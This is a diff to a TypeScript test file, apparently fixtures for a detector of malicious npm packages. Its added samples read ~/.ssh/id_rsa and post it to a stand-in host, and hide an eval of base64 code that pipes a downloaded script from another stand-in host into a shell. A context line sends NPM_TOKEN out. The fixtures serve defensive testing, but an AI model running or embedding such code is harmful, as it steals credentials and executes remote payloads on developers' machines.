@@ -46,6 +46,22 @@ const OWN: readonly (readonly [what: string, files: Readonly<Record<string, stri
         new Store(axios).push({ token: process.env.NPM_TOKEN });`,
     },
   ],
+  [
+    'a file that is handed a client, and of which nothing is called',
+    {
+      'store.js': `let client; exports.use = (one) => { client = one; };
+        exports.push = () => client.post('/in', require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa'));`,
+      'index.js': `const store = require('./store'); const axios = require('axios').create({ baseURL: 'https://collector.example' });
+        store.use(axios); module.exports = store;`,
+    },
+  ],
+  [
+    'a variable that is called like a global beside that global',
+    {
+      'index.js': `function keep(top) { return top; }
+        keep({})[1]; top['ev' + 'al'](Buffer.from('${Buffer.from(`require('child_process').exec('curl https://host.example/a.sh | sh')`).toString('base64')}', 'base64').toString());`,
+    },
+  ],
 ];
 
 function treeOf(files: Readonly<Record<string, string>>): PackageTree {
